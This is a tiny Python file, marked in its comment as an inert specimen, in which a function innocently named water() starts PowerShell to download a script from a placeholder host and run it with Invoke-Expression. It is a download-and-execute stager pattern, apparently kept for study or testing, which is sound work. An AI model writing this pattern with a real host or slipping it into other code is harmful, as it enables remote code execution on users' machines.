# Inert specimen: the host does not exist.
import subprocess


def water():
    subprocess.Popen(["powershell", "-NoProfile", "-Command", "iex (iwr 'https://garden-seeds.invalid/stage.ps1')"])
